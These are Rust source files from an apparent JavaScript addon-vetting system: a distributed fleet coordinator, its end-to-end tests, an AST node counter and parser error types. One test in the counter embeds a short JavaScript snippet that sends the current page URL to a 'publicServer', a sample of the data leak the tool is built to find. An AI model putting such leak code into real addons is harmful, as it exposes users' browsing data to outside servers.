        w.last_seen = Instant::now();
    }
    heartbeat_ack()
}

fn with_kind(kind: &str, body: Json) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from(kind));
    if let Json::Obj(entries) = body {
        for (k, v) in entries {
            o.set(&k, v);
        }
    }
    o
}

/// Handles one parsed request; the bool means "tear the fleet down
/// after writing this response".
fn respond(shared: &Shared, req: Result<FleetRequest, String>) -> (Json, bool) {
    match req {
        Err(msg) => {
            shared.metrics.add("fleet_protocol_errors", 1);
            shared.log_event(
                Level::Warn,
                "protocol_error",
                &[("error", Json::from(msg.as_str()))],
            );
            (error_response(&msg), false)
        }
        Ok(FleetRequest::Worker(w)) => match w {
            WorkerRequest::Join { node } => (handle_join(shared, &node), false),
            WorkerRequest::Claim { worker, wait_ms } => {
                (handle_claim(shared, &worker, wait_ms), false)
            }
            WorkerRequest::Complete {
                worker,
                job,
                cacheable,
                core,
            } => (handle_complete(shared, &worker, &job, cacheable, core), false),
            WorkerRequest::Heartbeat { worker } => (handle_heartbeat(shared, &worker), false),
        },
        Ok(FleetRequest::Client(Request::Vet(item))) => {
            (await_vet(shared, submit_vet(shared, item)), false)
        }
        Ok(FleetRequest::Client(Request::VetBatch(items))) => {
            // Submit everything first so the batch saturates the fleet.
            let pending: Vec<Pending> = items.into_iter().map(|i| submit_vet(shared, i)).collect();
            let results: Vec<Json> = pending.into_iter().map(|p| await_vet(shared, p)).collect();
            let mut o = Json::obj();
            o.set("kind", Json::from("vet_batch_result"));
            o.set("results", Json::Arr(results));
            (o, false)
        }
        Ok(FleetRequest::Client(Request::Stats)) => {
            (with_kind("stats", shared.stats_body()), false)
        }
        Ok(FleetRequest::Client(Request::Metrics)) => {
            let text = sigobs::prometheus_text(&shared.merged_snapshot());
            let samples = sigobs::validate_prometheus_text(&text).unwrap_or(0);
            (metrics_response(&text, samples), false)
        }
        Ok(FleetRequest::Client(Request::Shutdown)) => {
            shared.log_event(Level::Info, "fleet_shutdown", &[]);
            let mut o = Json::obj();
            o.set("kind", Json::from("shutdown_ack"));
            o.set("stats", shared.stats_body());
            (o, true)
        }
    }
}

/// Flips the fleet into shutdown: pending (unclaimed) jobs shed with a
/// `job_rejected` lifecycle, open claims return `fleet_shutdown`, and
/// the acceptor is poked awake. Jobs already claimed stay owned: their
/// workers post `complete` normally before seeing the shutdown on the
/// next claim, so accepted work finishes.
fn initiate_shutdown(shared: &Shared) {
    if shared.shutting_down.swap(true, Ordering::SeqCst) {
        return;
    }
    let mut st = shared.lock_state();
    st.shutting = true;
    let shed: Vec<String> = st.pending.drain(..).collect();
    for id in shed {
        if let Some(job) = st.jobs.remove(&id) {
            st.by_key.remove(&job.key);
            shared.metrics.add("fleet_jobs_rejected", 1);
            shared.log_event(
                Level::Warn,
                "job_rejected",
                &[
                    ("job", Json::from(id.as_str())),
                    ("reason", Json::from("shutting_down")),
                ],
            );
            let mut core = Json::obj();
            core.set("__shed", Json::Bool(true));
            for tx in &job.waiters {
                let _ = tx.send(core.clone());
            }
        }
    }
    drop(st);
    shared.jobs_cv.notify_all();
    if let Some(addr) = shared.addr {
        let _ = TcpStream::connect(addr);
    }
}

/// The protocol loop for one connection (worker or client).
fn serve_lines(shared: &Shared, reader: impl BufRead, mut writer: impl Write) -> io::Result<bool> {
    for line in reader.lines() {
        let line = line?;
        if line.trim().is_empty() {
            continue;
        }
        let (resp, is_shutdown) = respond(shared, parse_fleet_request(&line));
        let mut framed = resp.to_string_compact();
        framed.push('\n');
        writer.write_all(framed.as_bytes())?;
        writer.flush()?;
        if is_shutdown {
            initiate_shutdown(shared);
            return Ok(true);
        }
    }
    Ok(false)
}

fn handle_conn(shared: &Shared, stream: TcpStream) {
    // Same `conn_accepted`/`conn_closed` lifecycle events the sigserve
    // event loop emits, so fleet logs replay under the one validator.
    static CONN_SEQ: AtomicU64 = AtomicU64::new(0);
    let cid = format!("fc-{}", CONN_SEQ.fetch_add(1, Ordering::Relaxed));
    let peer = stream
        .peer_addr()
        .map(|a| a.to_string())
        .unwrap_or_else(|_| "?".to_owned());
    shared.log_event(
        Level::Debug,
        "conn_accepted",
        &[
            ("conn", Json::from(cid.as_str())),
            ("peer", Json::from(peer.as_str())),
        ],
    );
    let _ = stream.set_nodelay(true);
    let reason = match stream.try_clone() {
        Ok(reader) => match serve_lines(shared, BufReader::new(reader), stream) {
            Ok(true) => "shutdown",
            Ok(false) => "eof",
            Err(_) => "io_error",
        },
        Err(_) => "io_error",
    };
    shared.log_event(
        Level::Debug,
        "conn_closed",
        &[
            ("conn", Json::from(cid.as_str())),
            ("reason", Json::from(reason)),
        ],
    );
}

/// Spawns the reaper: workers whose `last_seen` is older than
/// `reap_after` are removed, and every job they had claimed goes back to
/// the *front* of the queue (it has already waited once).
fn spawn_reaper(shared: &Arc<Shared>) -> JoinHandle<()> {
    let shared = Arc::clone(shared);
    std::thread::Builder::new()
        .name("sigfleet-reaper".to_owned())
        .spawn(move || {
            let poll = (shared.reap_after / 5).clamp(Duration::from_millis(5), Duration::from_millis(250));
            loop {
                if shared.shutting_down.load(Ordering::SeqCst) {
                    return;
                }
                std::thread::sleep(poll);
                let mut st = shared.lock_state();
                let dead: Vec<String> = st
                    .workers
                    .iter()
                    .filter(|(_, w)| w.last_seen.elapsed() > shared.reap_after)
                    .map(|(id, _)| id.clone())
                    .collect();
                if dead.is_empty() {
                    continue;
                }
                let mut requeued = 0u64;
                for id in &dead {
                    let Some(entry) = st.workers.remove(id) else {
                        continue;
                    };
                    shared.log_event(
                        Level::Warn,
                        "worker_reaped",
                        &[
                            ("worker", Json::from(id.as_str())),
                            ("node", Json::from(entry.node.as_str())),
                            (
                                "idle_ms",
                                Json::from(entry.last_seen.elapsed().as_millis() as f64),
                            ),
                        ],
                    );
                    // Front of the queue: the job was admitted before
                    // everything currently pending.
                    for jid in entry.claimed.into_iter().rev() {
                        if let Some(job) = st.jobs.get_mut(&jid) {
                            job.claimed_by = None;
                            st.pending.push_front(jid.clone());
                            requeued += 1;
                            shared.log_event(
                                Level::Warn,
                                "job_requeued",
                                &[
                                    ("job", Json::from(jid.as_str())),
                                    ("worker", Json::from(id.as_str())),
                                ],
                            );
                        }
                    }
                }
                let alive = st.workers.len();
                drop(st);
                shared.metrics.add("fleet_workers_reaped", dead.len() as u64);
                if requeued > 0 {
                    shared.metrics.add("fleet_jobs_requeued", requeued);
                }
                shared.set_alive(alive);
                shared.jobs_cv.notify_all();
            }
        })
        .expect("spawn reaper thread")
}

/// Spawns the metrics-history thread (same contract as sigserve's:
/// a snapshot every interval plus one final snapshot at shutdown).
fn spawn_history(shared: &Arc<Shared>) -> Option<JoinHandle<()>> {
    let dir = shared.metrics_dir.clone()?;
    let shared = Arc::clone(shared);
    let handle = std::thread::Builder::new()
        .name("sigfleet-history".to_owned())
        .spawn(move || {
            let mut history =
                match sigobs::MetricsHistory::open(&dir, shared.metrics_history_cap) {
                    Ok(h) => h,
                    Err(e) => {
                        shared.log_event(
                            Level::Error,
                            "metrics_history_error",
                            &[("error", Json::from(format!("{e}")))],
                        );
                        return;
                    }
                };
            let poll = Duration::from_millis(25);
            loop {
                let interval_start = Instant::now();
                while interval_start.elapsed() < shared.metrics_interval {
                    if shared.shutting_down.load(Ordering::SeqCst) {
                        let _ = history.append(&shared.merged_snapshot());
                        return;
                    }
                    std::thread::sleep(poll.min(shared.metrics_interval));
                }
                if let Err(e) = history.append(&shared.merged_snapshot()) {
                    shared.log_event(
                        Level::Warn,
                        "metrics_history_error",
                        &[("error", Json::from(format!("{e}")))],
                    );
                }
            }
        })
        .expect("spawn history thread");
    Some(handle)
}

/// A running fleet coordinator. Send a client `shutdown` request (or
/// call [`Coordinator::stop`]) and then [`Coordinator::join`].
pub struct Coordinator {
    shared: Arc<Shared>,
    addr: SocketAddr,
    acceptor: JoinHandle<()>,
    reaper: JoinHandle<()>,
    history: Option<JoinHandle<()>>,
}

impl Coordinator {
    /// Binds `addr` (e.g. `127.0.0.1:0`), spawns the acceptor, the
    /// reaper, and (with `metrics_dir`) the history thread.
    pub fn bind(addr: &str, cfg: FleetConfig) -> io::Result<Coordinator> {
        let listener = TcpListener::bind(addr)?;
        let local = listener.local_addr()?;
        let shared = Arc::new(Shared::new(cfg, Some(local)));
        shared.log_event(
            Level::Info,
            "coordinate_started",
            &[
                ("queue_cap", Json::from(shared.queue_cap as f64)),
                ("slots", Json::from(shared.slots as f64)),
                (
                    "heartbeat_ms",
                    Json::from(shared.heartbeat.as_millis() as f64),
                ),
                (
                    "reap_ms",
                    Json::from(shared.reap_after.as_millis() as f64),
                ),
            ],
        );
        let reaper = spawn_reaper(&shared);
        let history = spawn_history(&shared);
        let acceptor = {
            let shared = Arc::clone(&shared);
            std::thread::Builder::new()
                .name("sigfleet-acceptor".to_owned())
                .spawn(move || loop {
                    match listener.accept() {
                        Ok((stream, _)) => {
                            if shared.shutting_down.load(Ordering::SeqCst) {
                                break;
                            }
                            let shared = Arc::clone(&shared);
                            std::thread::spawn(move || handle_conn(&shared, stream));
                        }
                        Err(_) => {
                            if shared.shutting_down.load(Ordering::SeqCst) {
                                break;
                            }
                        }
                    }
                })
                .expect("spawn acceptor thread")
        };
        Ok(Coordinator {
            shared,
            addr: local,
            acceptor,
            reaper,
            history,
        })
    }

    /// The bound address (resolves `:0` to the real ephemeral port).
    pub fn local_addr(&self) -> SocketAddr {
        self.addr
    }

    /// A `stats`-shaped snapshot for in-process harnesses.
    pub fn stats(&self) -> Json {
        with_kind("stats", self.shared.stats_body())
    }

    /// The merged metrics snapshot for in-process harnesses.
    pub fn metrics_snapshot(&self) -> MetricsSnapshot {
        self.shared.merged_snapshot()
    }

    /// Initiates shutdown (equivalent to a `shutdown` request, minus
    /// the ack).
    pub fn stop(&self) {
        initiate_shutdown(&self.shared);
    }

    /// Waits for the acceptor, reaper, and history threads; flushes the
    /// log. Call after a `shutdown` request or [`Coordinator::stop`].
    pub fn join(self) {
        let _ = self.acceptor.join();
        let _ = self.reaper.join();
        if let Some(h) = self.history {
            let _ = h.join();
        }
        if let Some(log) = &self.shared.log {
            log.flush();
        }
    }
}
