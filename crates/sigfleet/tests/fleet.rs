//! Fleet end-to-end tests with stub engines: join/claim/complete over
//! real loopback TCP, fleet-wide dedup, shard hits, and the reaper.

use std::thread;
use std::time::{Duration, Instant};

use jsanalysis::AnalysisConfig;
use minijson::Json;
use sigfleet::protocol::{claim_request, join_request};
use sigfleet::{Coordinator, FleetConfig, Worker, WorkerConfig};
use sigserve::{Client, PhaseTimings, VetOutcome};
use sigtrace::{MetricsRegistry, Trace};

fn stub(source: &str, _c: &AnalysisConfig, m: &MetricsRegistry, _t: Trace<'_>) -> VetOutcome {
    m.add("stub_calls", 1);
    VetOutcome::report(
        format!("{{\n  \"len\": {}\n}}", source.len()),
        PhaseTimings::new(
            Duration::from_micros(30),
            Duration::from_micros(20),
            Duration::from_micros(10),
        ),
    )
}

fn fast_cfg() -> FleetConfig {
    FleetConfig {
        heartbeat: Duration::from_millis(50),
        reap_after: Duration::from_millis(250),
        ..FleetConfig::default()
    }
}

fn counter(stats: &Json, name: &str) -> f64 {
    stats["fleet"][name].as_f64().unwrap_or(-1.0)
}

#[test]
fn fleet_vets_and_store_answers_resubmission() {
    let coord = Coordinator::bind("127.0.0.1:0", fast_cfg()).expect("bind");
    let addr = coord.local_addr().to_string();
    let workers: Vec<Worker> = (0..2)
        .map(|i| {
            let mut wc = WorkerConfig::new(addr.clone());
            wc.node = format!("node-{i}");
            wc.threads = 1;
            wc.claim_wait_ms = 100;
            Worker::join_fleet(wc, stub).expect("join")
        })
        .collect();

    let mut client = Client::connect(addr.as_str()).expect("connect");
    let first = client.vet_source(Some("a.js"), "var alpha;").expect("vet");
    assert_eq!(first["verdict"], "ok");
    assert_eq!(first["cached"], Json::Bool(false));
    assert_eq!(first["signature"]["len"].as_f64(), Some(10.0));

    // Resubmission: the shared result store answers without a worker.
    let second = client.vet_source(Some("a.js"), "var alpha;").expect("vet");
    assert_eq!(second["cached"], Json::Bool(true));
    assert_eq!(
        second["signature"].to_string(),
        first["signature"].to_string()
    );

    let stats = coord.stats();
    assert_eq!(counter(&stats, "workers_alive"), 2.0);
    assert_eq!(counter(&stats, "jobs_completed"), 1.0);
    assert_eq!(stats["cache"]["hits"].as_f64(), Some(1.0));

    client.shutdown().expect("shutdown");
    for w in workers {
        w.join();
    }
    coord.join();
}

#[test]
fn identical_concurrent_submissions_resolve_to_one_analysis() {
    // The slow stub holds the first submission in flight long enough
    // that the other clients coalesce onto it fleet-wide.
    let slow = |s: &str, c: &AnalysisConfig, m: &MetricsRegistry, t: Trace<'_>| {
        thread::sleep(Duration::from_millis(200));
        stub(s, c, m, t)
    };
    let coord = Coordinator::bind("127.0.0.1:0", fast_cfg()).expect("bind");
    let addr = coord.local_addr().to_string();
    let worker = {
        let mut wc = WorkerConfig::new(addr.clone());
        wc.threads = 2;
        wc.claim_wait_ms = 100;
        Worker::join_fleet(wc, slow).expect("join")
    };

    let clients = 4;
    let responses: Vec<Json> = thread::scope(|scope| {
        let handles: Vec<_> = (0..clients)
            .map(|_| {
                let addr = addr.clone();
                scope.spawn(move || {
                    let mut c = Client::connect(addr.as_str()).expect("connect");
                    c.vet_source(Some("dup.js"), "var duplicated_content;")
                        .expect("vet")
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().expect("client")).collect()
    });
    for r in &responses {
        assert_eq!(r["verdict"], "ok");
        assert_eq!(
            r["signature"].to_string(),
            responses[0]["signature"].to_string()
        );
    }
    let stats = coord.stats();
    let dedup = counter(&stats, "dedup_hits");
    let store_hits = stats["cache"]["hits"].as_f64().unwrap();
    // One client computed; every other one either coalesced onto the
    // in-flight job or (arriving after completion) hit the store.
    assert_eq!(dedup + store_hits, (clients - 1) as f64, "stats: {stats}");
    assert_eq!(counter(&stats, "jobs_completed"), 1.0);

    let mut client = Client::connect(addr.as_str()).expect("connect");
    client.shutdown().expect("shutdown");
    worker.join();
    coord.join();
}

#[test]
fn worker_shard_answers_when_store_is_disabled() {
    // result_cap 0 disables the coordinator store, so a resubmission
    // travels to the worker — whose shard (slots=1: it owns every key)
    // answers without recomputing.
    let cfg = FleetConfig {
        result_cap: 0,
        slots: 1,
        ..fast_cfg()
    };
    let coord = Coordinator::bind("127.0.0.1:0", cfg).expect("bind");
    let addr = coord.local_addr().to_string();
    let worker = {
        let mut wc = WorkerConfig::new(addr.clone());
        wc.threads = 1;
        wc.claim_wait_ms = 100;
        Worker::join_fleet(wc, stub).expect("join")
    };
    assert_eq!(worker.slots(), 1);

    let mut client = Client::connect(addr.as_str()).expect("connect");
    let first = client.vet_source(None, "var shard;").expect("vet");
    let second = client.vet_source(None, "var shard;").expect("vet");
    assert_eq!(first["verdict"], "ok");
    // Both went through workers (no store), but only one computed.
    assert_eq!(second["cached"], Json::Bool(false));
    assert_eq!(
        second["signature"].to_string(),
        first["signature"].to_string()
    );
    let snap = worker.metrics_snapshot();
    let shard_hits = snap
        .counters
        .iter()
        .find(|(n, _)| n == "worker_shard_hits")
        .map_or(0, |(_, v)| *v);
    let computes = snap
        .counters
        .iter()
        .find(|(n, _)| n == "stub_calls")
        .map_or(0, |(_, v)| *v);
    assert_eq!(shard_hits, 1);
    assert_eq!(computes, 1);

    client.shutdown().expect("shutdown");
    worker.join();
    coord.join();
}

#[test]
fn reaper_requeues_jobs_from_dead_workers() {
    let cfg = FleetConfig {
        heartbeat: Duration::from_millis(40),
        reap_after: Duration::from_millis(150),
        ..FleetConfig::default()
    };
    let coord = Coordinator::bind("127.0.0.1:0", cfg).expect("bind");
    let addr = coord.local_addr().to_string();

    // A doomed worker, spoken by hand: join, claim until a job arrives,
    // then vanish without completing or heartbeating.
    let mut doomed = Client::connect(addr.as_str()).expect("connect");
    let ack = doomed.request(&join_request("doomed")).expect("join");
    let doomed_id = ack["worker"].as_str().expect("worker id").to_owned();

    // Submit from a background thread; it blocks until a live worker
    // eventually answers.
    let submit_addr = addr.clone();
    let submitter = thread::spawn(move || {
        let mut c = Client::connect(submit_addr.as_str()).expect("connect");
        c.vet_source(Some("victim.js"), "var victim;").expect("vet")
    });

    // The doomed worker grabs the job and dies.
    let job = loop {
        let resp = doomed.request(&claim_request(&doomed_id, 500)).expect("claim");
        if resp["kind"] == "job" {
            break resp;
        }
    };
    assert_eq!(job["kind"], "job");
    drop(doomed);

    // Wait for the reaper to notice the silence and requeue.
    let t0 = Instant::now();
    loop {
        let stats = coord.stats();
        if counter(&stats, "jobs_requeued") >= 1.0 {
            break;
        }
        assert!(
            t0.elapsed() < Duration::from_secs(5),
            "reaper never requeued: {stats}"
        );
        thread::sleep(Duration::from_millis(20));
    }

    // A live worker joins and rescues the requeued job.
    let worker = {
        let mut wc = WorkerConfig::new(addr.clone());
        wc.threads = 1;
        wc.claim_wait_ms = 100;
        Worker::join_fleet(wc, stub).expect("join")
    };
    let resp = submitter.join().expect("submitter");
    assert_eq!(resp["verdict"], "ok", "rescued job must answer: {resp}");
    assert_eq!(resp["signature"]["len"].as_f64(), Some(11.0));

    let stats = coord.stats();
    assert_eq!(counter(&stats, "workers_alive"), 1.0, "doomed reaped, live joined");
    assert!(counter(&stats, "workers_reaped") >= 1.0);
    assert_eq!(counter(&stats, "jobs_completed"), 1.0);

    let mut client = Client::connect(addr.as_str()).expect("connect");
    client.shutdown().expect("shutdown");
    worker.join();
    coord.join();
}

#[test]
fn heartbeats_keep_an_idle_worker_alive() {
    let cfg = FleetConfig {
        heartbeat: Duration::from_millis(30),
        reap_after: Duration::from_millis(120),
        ..FleetConfig::default()
    };
    let coord = Coordinator::bind("127.0.0.1:0", cfg).expect("bind");
    let addr = coord.local_addr().to_string();
    let worker = {
        let mut wc = WorkerConfig::new(addr.clone());
        wc.threads = 1;
        // Claim returns fast and the loop mostly sleeps on the
        // long-poll; liveness must come from the heartbeat thread too.
        wc.claim_wait_ms = 20;
        Worker::join_fleet(wc, stub).expect("join")
    };
    thread::sleep(Duration::from_millis(500));
    let stats = coord.stats();
    assert_eq!(counter(&stats, "workers_alive"), 1.0, "idle worker reaped: {stats}");
    let mut client = Client::connect(addr.as_str()).expect("connect");
    let resp = client.vet_source(None, "var still_alive;").expect("vet");
    assert_eq!(resp["verdict"], "ok");
    client.shutdown().expect("shutdown");
    worker.join();
    coord.join();
}

#[test]
fn overload_sheds_with_typed_backpressure() {
    let cfg = FleetConfig {
        queue_cap: 1,
        ..fast_cfg()
    };
    // No workers at all: everything pends, the second submission of a
    // *different* content must shed.
    let coord = Coordinator::bind("127.0.0.1:0", cfg).expect("bind");
    let addr = coord.local_addr().to_string();
    let submit_addr = addr.clone();
    let blocked = thread::spawn(move || {
        let mut c = Client::connect(submit_addr.as_str()).expect("connect");
        c.vet_source(None, "var first;").expect("vet")
    });
    // Wait until the first submission is pending.
    let t0 = Instant::now();
    while counter(&coord.stats(), "pending") < 1.0 {
        assert!(t0.elapsed() < Duration::from_secs(5));
        thread::sleep(Duration::from_millis(10));
    }
    let mut c2 = Client::connect(addr.as_str()).expect("connect");
    let resp = c2.vet_source(None, "var second;").expect("vet");
    assert_eq!(resp["kind"], "overloaded", "expected shed: {resp}");

    // A worker arrives; the pending job completes; shutdown drains.
    let worker = {
        let mut wc = WorkerConfig::new(addr.clone());
        wc.threads = 1;
        wc.claim_wait_ms = 50;
        Worker::join_fleet(wc, stub).expect("join")
    };
    let resp = blocked.join().expect("blocked client");
    assert_eq!(resp["verdict"], "ok");
    c2.shutdown().expect("shutdown");
    worker.join();
    coord.join();
}

#[test]
fn shutdown_sheds_pending_and_stops_workers() {
    // No workers: a pending job must be shed with an error verdict at
    // shutdown rather than hanging its client forever.
    let coord = Coordinator::bind("127.0.0.1:0", fast_cfg()).expect("bind");
    let addr = coord.local_addr().to_string();
    let submit_addr = addr.clone();
    let blocked = thread::spawn(move || {
        let mut c = Client::connect(submit_addr.as_str()).expect("connect");
        c.vet_source(None, "var doomed_job;").expect("vet")
    });
    let t0 = Instant::now();
    while counter(&coord.stats(), "pending") < 1.0 {
        assert!(t0.elapsed() < Duration::from_secs(5));
        thread::sleep(Duration::from_millis(10));
    }
    let mut client = Client::connect(addr.as_str()).expect("connect");
    client.shutdown().expect("shutdown");
    let resp = blocked.join().expect("blocked client");
    assert_eq!(resp["kind"], "error", "shed at shutdown: {resp}");
    coord.join();
}

#[test]
fn fleet_metrics_expose_prometheus_text() {
    let coord = Coordinator::bind("127.0.0.1:0", fast_cfg()).expect("bind");
    let addr = coord.local_addr().to_string();
    let worker = Worker::join_fleet(
        {
            let mut wc = WorkerConfig::new(addr.clone());
            wc.threads = 1;
            wc.claim_wait_ms = 50;
            wc
        },
        stub,
    )
    .expect("join");
    let mut client = Client::connect(addr.as_str()).expect("connect");
    client.vet_source(None, "var metered;").expect("vet");
    client.vet_source(None, "var metered;").expect("vet");
    let resp = client.metrics().expect("metrics");
    let text = resp["prometheus"].as_str().expect("prometheus text");
    assert!(sigobs::validate_prometheus_text(text).is_ok());
    for name in [
        "fleet_workers_alive",
        "fleet_jobs_completed",
        "fleet_claim_wait_us",
        "fleet_store_hits",
    ] {
        assert!(text.contains(name), "missing {name} in:\n{text}");
    }
    client.shutdown().expect("shutdown");
    worker.join();
    coord.join();
}
