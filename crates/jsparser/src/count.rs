//! AST node counting, Rhino-style.
//!
//! The paper reports addon sizes as "the number of AST nodes parsed by
//! Rhino, a more accurate representation than number of lines of code"
//! (Table 1). We reproduce the metric by counting every node of our AST:
//! each statement, expression, declarator, switch case, function, and
//! identifier position counts as one node.

use crate::ast::*;

/// Counts the AST nodes of a whole program.
///
/// # Examples
///
/// ```
/// let prog = jsparser::parse("var x = 1;")?;
/// assert!(jsparser::count_nodes(&prog) >= 3); // decl + declarator + literal
/// # Ok::<(), jsparser::ParseError>(())
/// ```
pub fn count_nodes(program: &Program) -> usize {
    1 + program.body.iter().map(count_stmt).sum::<usize>()
}

fn count_stmt(stmt: &Stmt) -> usize {
    1 + match &stmt.kind {
        StmtKind::Expr(e) => count_expr(e),
        StmtKind::VarDecl(ds) => ds
            .iter()
            .map(|d| 2 + d.init.as_ref().map_or(0, count_expr))
            .sum(),
        StmtKind::FunDecl(f) => count_fun(f),
        StmtKind::If { cond, cons, alt } => {
            count_expr(cond) + count_stmt(cons) + alt.as_deref().map_or(0, count_stmt)
        }
        StmtKind::While { cond, body } => count_expr(cond) + count_stmt(body),
        StmtKind::DoWhile { body, cond } => count_stmt(body) + count_expr(cond),
        StmtKind::For {
            init,
            test,
            update,
            body,
        } => {
            init.as_deref().map_or(0, count_stmt)
                + test.as_ref().map_or(0, count_expr)
                + update.as_ref().map_or(0, count_expr)
                + count_stmt(body)
        }
        StmtKind::ForIn {
            target, obj, body, ..
        } => count_expr(target) + count_expr(obj) + count_stmt(body),
        StmtKind::Return(e) => e.as_ref().map_or(0, count_expr),
        StmtKind::Break(l) | StmtKind::Continue(l) => usize::from(l.is_some()),
        StmtKind::Throw(e) => count_expr(e),
        StmtKind::Try {
            block,
            catch,
            finally,
        } => {
            block.iter().map(count_stmt).sum::<usize>()
                + catch.as_ref().map_or(0, |(_, b)| {
                    2 + b.iter().map(count_stmt).sum::<usize>()
                })
                + finally
                    .as_ref()
                    .map_or(0, |b| 1 + b.iter().map(count_stmt).sum::<usize>())
        }
        StmtKind::Switch { disc, cases } => {
            count_expr(disc)
                + cases
                    .iter()
                    .map(|c| {
                        1 + c.test.as_ref().map_or(0, count_expr)
                            + c.body.iter().map(count_stmt).sum::<usize>()
                    })
                    .sum::<usize>()
        }
        StmtKind::Block(body) => body.iter().map(count_stmt).sum(),
        StmtKind::Empty => 0,
        StmtKind::Labeled(_, body) => 1 + count_stmt(body),
    }
}

fn count_fun(f: &Function) -> usize {
    1 + usize::from(f.name.is_some())
        + f.params.len()
        + f.body.iter().map(count_stmt).sum::<usize>()
}

fn count_expr(expr: &Expr) -> usize {
    1 + match &expr.kind {
        ExprKind::Ident(_)
        | ExprKind::Num(_)
        | ExprKind::Str(_)
        | ExprKind::Bool(_)
        | ExprKind::Null
        | ExprKind::This
        | ExprKind::Regex(_) => 0,
        ExprKind::Array(elems) => elems
            .iter()
            .map(|e| e.as_ref().map_or(1, count_expr))
            .sum(),
        ExprKind::Object(props) => props.iter().map(|(_, v)| 1 + count_expr(v)).sum(),
        ExprKind::Function(f) => count_fun(f),
        ExprKind::Unary { arg, .. } => count_expr(arg),
        ExprKind::Binary { left, right, .. } | ExprKind::Logical { left, right, .. } => {
            count_expr(left) + count_expr(right)
        }
        ExprKind::Assign { target, value, .. } => count_expr(target) + count_expr(value),
        ExprKind::Update { arg, .. } => count_expr(arg),
        ExprKind::Cond { test, cons, alt } => {
            count_expr(test) + count_expr(cons) + count_expr(alt)
        }
        ExprKind::Call { callee, args } | ExprKind::New { callee, args } => {
            count_expr(callee) + args.iter().map(count_expr).sum::<usize>()
        }
        ExprKind::Member { obj, prop } => {
            count_expr(obj)
                + match prop {
                    MemberProp::Static(_) => 1,
                    MemberProp::Computed(e) => count_expr(e),
                }
        }
        ExprKind::Seq(es) => es.iter().map(count_expr).sum(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse;

    #[test]
    fn counts_grow_with_program() {
        let small = count_nodes(&parse("x;").unwrap());
        let large = count_nodes(&parse("x; y; z = a + b * c;").unwrap());
        assert!(large > small);
    }

    #[test]
    fn empty_program_counts_one() {
        assert_eq!(count_nodes(&parse("").unwrap()), 1);
    }

    #[test]
    fn function_params_counted() {
        let a = count_nodes(&parse("function f() {}").unwrap());
        let b = count_nodes(&parse("function f(x, y) {}").unwrap());
        assert_eq!(b, a + 2);
    }

    #[test]
    fn realistic_snippet_in_plausible_range() {
        let src = r#"
function ajax(params) {
  var data = params["data"];
  var request = XHRWrapper(publicServer);
  request.send("url is: " + data);
}
ajax({ data: content.location.href });
"#;
        let n = count_nodes(&parse(src).unwrap());
        // Sanity band: a ~7 line snippet should be tens of nodes.
        assert!((25..80).contains(&n), "unexpected count {n}");
    }
}
