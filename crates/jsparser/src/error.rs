//! Parse errors.

use crate::span::Span;
use std::error::Error;
use std::fmt;

/// An error produced while lexing or parsing addon source.
#[derive(Debug, Clone, PartialEq)]
pub struct ParseError {
    /// What went wrong.
    pub kind: ParseErrorKind,
    /// Where it went wrong.
    pub span: Span,
}

/// The specific failure that occurred.
#[derive(Debug, Clone, PartialEq)]
pub enum ParseErrorKind {
    /// A string literal was not closed before end of line / input.
    UnterminatedString,
    /// A block comment was not closed before end of input.
    UnterminatedComment,
    /// A regex literal was not closed before end of line / input.
    UnterminatedRegex,
    /// A numeric literal could not be parsed.
    InvalidNumber,
    /// A string escape sequence was malformed.
    InvalidEscape,
    /// A character that cannot begin any token.
    UnexpectedChar(char),
    /// The parser found a token it did not expect.
    UnexpectedToken {
        /// Rendered form of the offending token.
        found: String,
        /// What the parser was looking for.
        expected: String,
    },
    /// An assignment whose left-hand side is not assignable.
    InvalidAssignTarget,
    /// `break`/`continue` label or similar construct was malformed.
    InvalidStatement(String),
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.kind {
            ParseErrorKind::UnterminatedString => write!(f, "unterminated string literal"),
            ParseErrorKind::UnterminatedComment => write!(f, "unterminated block comment"),
            ParseErrorKind::UnterminatedRegex => write!(f, "unterminated regex literal"),
            ParseErrorKind::InvalidNumber => write!(f, "invalid numeric literal"),
            ParseErrorKind::InvalidEscape => write!(f, "invalid escape sequence"),
            ParseErrorKind::UnexpectedChar(c) => write!(f, "unexpected character `{c}`"),
            ParseErrorKind::UnexpectedToken { found, expected } => {
                write!(f, "unexpected {found}, expected {expected}")
            }
            ParseErrorKind::InvalidAssignTarget => {
                write!(f, "invalid assignment target")
            }
            ParseErrorKind::InvalidStatement(msg) => write!(f, "{msg}"),
        }?;
        write!(f, " at {}", self.span)
    }
}

impl Error for ParseError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_includes_line() {
        let e = ParseError {
            kind: ParseErrorKind::UnexpectedChar('#'),
            span: Span::new(0, 1, 3),
        };
        assert_eq!(e.to_string(), "unexpected character `#` at line 3");
    }

    #[test]
    fn error_trait_object() {
        let e: Box<dyn Error> = Box::new(ParseError {
            kind: ParseErrorKind::InvalidNumber,
            span: Span::default(),
        });
        assert!(e.to_string().contains("invalid numeric literal"));
    }
}
