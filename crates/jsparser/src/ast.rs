//! Abstract syntax tree for the analyzed JavaScript subset.
//!
//! Every node carries a [`Span`] for diagnostics. Function nodes carry a
//! [`FunId`] assigned by the parser in declaration order; the IR lowering
//! keyed on these ids.

use crate::span::Span;
use std::fmt;

/// Identifies a function literal (declaration or expression) within a
/// parsed program. The whole program's top level is *not* a `FunId`; ids
/// start at 0 for the first function literal encountered.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct FunId(pub u32);

impl fmt::Display for FunId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "fun{}", self.0)
    }
}

/// A complete parsed program (the addon's top-level code).
#[derive(Debug, Clone, PartialEq)]
pub struct Program {
    /// Top-level statements.
    pub body: Vec<Stmt>,
    /// Number of function literals in the program; `FunId`s are dense in
    /// `0..fun_count`.
    pub fun_count: u32,
}

/// An identifier occurrence.
#[derive(Debug, Clone, PartialEq)]
pub struct Ident {
    /// The identifier text.
    pub name: String,
    /// Source location.
    pub span: Span,
}

/// A function literal: declaration, expression, or getter-style property.
#[derive(Debug, Clone, PartialEq)]
pub struct Function {
    /// Dense id assigned by the parser.
    pub id: FunId,
    /// Function name, if any (`function foo() {}` or a named expression).
    pub name: Option<Ident>,
    /// Formal parameter names.
